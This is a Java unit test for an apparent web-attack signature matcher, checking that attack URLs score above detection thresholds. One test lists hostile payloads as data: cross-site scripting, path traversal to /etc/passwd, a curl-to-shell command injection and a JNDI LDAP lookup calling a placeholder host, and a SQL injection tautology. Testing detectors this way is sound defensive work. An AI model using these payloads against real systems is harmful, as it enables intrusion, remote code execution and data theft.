package io.selfheal.analyzer.signature;

import static org.assertj.core.api.Assertions.assertThat;

import io.selfheal.analyzer.rules.RuleSet;
import java.io.IOException;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Attacks of all classes, in the disguises that tools and people give them. */
class AttackRequestsTest {
    private static final String AGENT = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";
    /** From here on an assessment is made. */
    private static final int NOTICED = 30;
    /** From here on its source is an attacker. */
    private static final int HIGH = 60;

    private static final SignatureMatcher MATCHER =
            new SignatureMatcher(RuleSet.shipped().signatures());

    static Stream<String> requests() throws IOException {
        return RequestLines.of("/attack-requests.txt");
    }

    @ParameterizedTest
    @MethodSource("requests")
    void bringsItsSourceToNotice(String url) {
        assertThat(MATCHER.match(url, AGENT, null))
                .anyMatch(hit -> hit.signature().score() >= NOTICED);
    }

    /** What is no SQL knows no comments, so an attack on it is one between their signs as well. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "/s?q=/*%3Cscript%3Ealert(1)%3C/script%3E*/",
                "/s?f=/*/../../../../etc/passwd&x=*/",
                "/s?q=/*$(curl%20198.51.100.1|sh)*/",
                "/s?q=%2f%2a%24%7Bjndi:ldap://198.51.100.1/a%7D%2a%2f",
                "/s?q=/*,%3Csvg%20onload=alert(1)%3E*/",
                "/s?a=/*&q=1'%20or%20'1'='1&b=*/"
            })
    void isSeenBetweenTheSignsOfAComment(String url) {
        assertThat(MATCHER.match(url, AGENT, null))
                .anyMatch(hit -> hit.signature().score() >= HIGH);
    }
}
